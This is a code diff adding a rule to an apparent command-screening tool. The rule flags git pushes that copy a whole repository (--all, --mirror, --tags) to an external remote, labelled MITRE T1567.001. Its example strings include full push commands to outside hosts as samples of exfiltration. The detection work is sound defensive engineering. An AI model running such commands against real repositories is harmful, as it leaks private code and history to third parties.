@@ -540,4 +540,37 @@ const crossAccountCopy: CommandRule = {
   },
 };
 
-export const exfiltrationRules: readonly CommandRule[] = [httpUpload, remoteCopy, cloudUpload, socketSend, dnsExfil, publish, serveFiles, mailCopied, crossAccountCopy];
+/**
+ * A whole repository pushed to a remote the same step added (git remote add X URL; git push X --all,
+ * --mirror or --tags): every branch, tag and its history is copied to URL's owner, where it stays
+ * (T1567.001). A remote the repository already had, or one branch pushed, is ordinary work.
+ */
+const repositoryCopied: CommandRule = {
+  id: "exfiltration.repository-copied",
+  tactic: TACTIC,
+  technique: "T1567.001",
+  match(inv, all, index) {
+    if (inv.name !== "git") return undefined;
+    const words = inv.args.filter((a) => !a.startsWith("-"));
+    if (words[0] !== "push" || !inv.args.some((a) => a === "--all" || a === "--mirror" || a === "--tags")) return undefined;
+    const remote = words[1];
+    if (remote === undefined) return undefined;
+    // The remote as a URL, or a name this step's own `git remote add` gave one.
+    const added = all.slice(0, index).find((p) => p.name === "git" && p.args[0] === "remote" && p.args[1] === "add" && p.args[2] === remote);
+    const url = hostOf(remote) !== undefined ? remote : added?.args[3];
+    if (url === undefined) return undefined;
+    const host = hostOf(url) ?? "";
+    if (!isExternalHost(host)) return undefined;
+    const action: Action = { capability: "exfiltrate", target: { name: url, external: true }, reversibility: "irreversible", scope: "tree" };
+    return { action, reason: `pushes the whole repository (${inv.args.find((a) => a === "--all" || a === "--mirror" || a === "--tags")}) to ${shown(url)}, a remote ${added !== undefined ? "this step adds" : "named by its address"}: every branch and its history is copied to whoever owns it (T1567.001)` };
+  },
+  examples: {
+    match: [
+      `git remote add mirror https://github.com/some-mirror/fw.git && git push mirror --all && git push mirror --tags`,
+      `git push --mirror https://gitlab.com/someone/fw.git`,
+    ],
+    noMatch: [`git push origin --tags`, `git push --all origin`, `git remote add upstream https://github.com/org/repo.git && git push upstream feature-x`, `git push origin main`],
+  },
+};
+
+export const exfiltrationRules: readonly CommandRule[] = [httpUpload, remoteCopy, cloudUpload, socketSend, dnsExfil, publish, serveFiles, mailCopied, crossAccountCopy, repositoryCopied];
